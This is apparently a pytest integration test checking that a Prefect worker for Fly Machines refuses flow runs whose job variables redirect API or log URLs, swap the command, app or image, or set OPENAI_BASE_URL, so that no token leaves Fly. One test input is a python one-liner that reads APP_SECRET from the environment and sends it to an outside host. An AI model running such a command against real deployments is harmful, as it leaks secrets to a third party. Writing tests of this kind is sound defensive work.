"""The worker sends its token only to Fly: flow runs created through a real Prefect API with job
variables that point api_url/logs_url at a local server that records every request, set a command,
another app or a foreign image, are failed by the fly-machines worker (Prefect's own submission
path: get_and_submit_flow_runs) before any Machine exists, with the reason in the run's log; a run
with allowed variables gets its Machine on the worker's own host."""

from __future__ import annotations

import asyncio
import json
import threading
import time
import uuid

import pytest
from prefect import flow

from deployments.fly_worker import FlyMachinesWorker
from tests.fly_standin import FlyStandin, local_image
from tests.http_standin import HTTPStandin, QuietHandler

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]

APP = "runs"
ALLOWED_IMAGE = f"registry.fly.io/{APP}:v2"


@flow(name="fly-privilege-probe")
def probe() -> None:
    pass


class Recorder(QuietHandler):
    """Answers anything with 200 {} (as a Fly that took the call would) and keeps every request."""

    seen: list[tuple[str, str, str | None]] = []
    lock = threading.Lock()

    def _record(self) -> None:
        self.read_body()
        with self.lock:
            self.seen.append((self.command, self.path, self.headers.get("Authorization")))
        self.send_body(200, b"{}")

    do_GET = do_POST = do_DELETE = do_PUT = _record


@pytest.fixture()
def fly(tmp_path, monkeypatch, prefect_harness):
    monkeypatch.setenv("VIBEINSIGHT_HOME", str(tmp_path / "worker-home"))
    images = {"local": local_image(), ALLOWED_IMAGE: local_image()}
    with FlyStandin(logs=tmp_path, images=images) as f:
        f.add_app(APP, {"APP_SECRET": "from-fly"})
        monkeypatch.setenv("FLY_API_TOKEN", f.token)
        monkeypatch.setenv("FLY_API_URL", f.url)
        monkeypatch.setenv("FLY_LOGS_URL", f.url)
        yield f


def pool_template() -> dict:
    tpl = FlyMachinesWorker.get_default_base_job_template()
    for k, v in {"app": APP, "image": "local", "cpu_kind": "shared", "cpus": 1, "memory_mb": 512}.items():
        tpl["variables"]["properties"][k]["default"] = v
    # the operator's pool: its Machines run `true` (no flow needed here); a run's own command would replace it
    tpl["variables"]["properties"]["command"] = {"type": "string", "default": "true"}
    tpl["job_configuration"]["command"] = "{{ command }}"
    return tpl


async def _submit(job_variables: dict[str, dict]) -> tuple[dict[str, object], dict[str, str], dict[str, str]]:
    """One deployment on a fresh pool, one flow run per entry, submitted by the worker; returns
    {label: final flow run}, {label: its log text}, {label: run id}."""
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterId, LogFilter, LogFilterFlowRunId

    pool = f"fly-{uuid.uuid4().hex[:8]}"
    async with FlyMachinesWorker(work_pool_name=pool, base_job_template=pool_template()) as worker:
        pc = worker.client
        flow_id = await pc.create_flow(probe)
        deployment_id = await pc.create_deployment(flow_id=flow_id, name="privilege", work_pool_name=pool,
                                                   entrypoint="tests/test_fly_worker_privilege.py:probe")
        runs = {label: await pc.create_flow_run_from_deployment(deployment_id, job_variables=jv)
                for label, jv in job_variables.items()}
        ids = {label: run.id for label, run in runs.items()}
        await worker.get_and_submit_flow_runs()
        deadline = time.monotonic() + 120
        final: dict[str, object] = {}
        while len(final) < len(ids) and time.monotonic() < deadline:
            found = await pc.read_flow_runs(flow_run_filter=FlowRunFilter(id=FlowRunFilterId(any_=list(ids.values()))))
            for run in found:
                label = next(k for k, v in ids.items() if v == run.id)
                # the allowed run: its Machine ran `true` and is gone, and the worker let go of it
                if run.state and (run.state.is_final() or (label == "allowed" and run.infrastructure_pid)):
                    final[label] = run
            await asyncio.sleep(0.5)
        logs: dict[str, str] = {}
        while time.monotonic() < deadline:  # logs reach the API in batches
            entries = await pc.read_logs(LogFilter(flow_run_id=LogFilterFlowRunId(any_=list(ids.values()))))
            logs = {label: "\n".join(e.message for e in entries if e.flow_run_id == rid) for label, rid in ids.items()}
            if all("refused" in text for label, text in logs.items() if label != "allowed"):
                break
            await asyncio.sleep(0.5)
    return final, logs, {label: str(rid) for label, rid in ids.items()}


REFUSED = {
    "api_url": "'api_url'",
    "logs_url": "'logs_url'",
    "command": "'command'",
    "app": "'app'",
    "image": "'image'",
    "env": "OPENAI_BASE_URL",
}


def test_runs_naming_another_host_app_command_or_image_are_failed_before_any_machine(fly):
    Recorder.seen.clear()
    with HTTPStandin(Recorder) as elsewhere:
        job_variables = {
            "api_url": {"api_url": elsewhere.url},
            "logs_url": {"logs_url": elsewhere.url},
            "command": {"command": f"python -c \"import os, urllib.request; urllib.request.urlopen('{elsewhere.url}/'"
                                   f" + os.environ['APP_SECRET'])\""},
            "app": {"app": "another-app"},
            "image": {"image": "docker.io/someone/image:latest"},
            "env": {"env": {"OPENAI_BASE_URL": elsewhere.url}},
            "allowed": {"image": ALLOWED_IMAGE, "region": "ams", "env": {"TZ": "UTC"}},
        }
        final, logs, ids = asyncio.run(_submit(job_variables))
        time.sleep(1)  # anything sent late would still be recorded
        assert Recorder.seen == []  # not one request, so no token, reached the other host

    for label, named in REFUSED.items():
        run = final.get(label)
        assert run is not None and run.state.type.value == "FAILED", (label, run and run.state)
        assert "refused" in run.state.message and named in run.state.message, (label, run.state.message)
        assert named in logs[label] and "No Machine was created" in logs[label], (label, logs[label])
        assert fly.by_run(ids[label]) == [], label
    assert fly.count("POST", "/machines") == 1  # the allowed run's create, nothing else

    (machine,) = fly.by_run(ids["allowed"])  # the control: same path, allowed variables, a Machine on Fly
    assert machine.config["image"] == ALLOWED_IMAGE and machine.region == "ams"
    assert machine.config["env"]["TZ"] == "UTC" and machine.config["init"]["cmd"] == ["true"]
    assert json.dumps(machine.config).count(fly.token) == 0
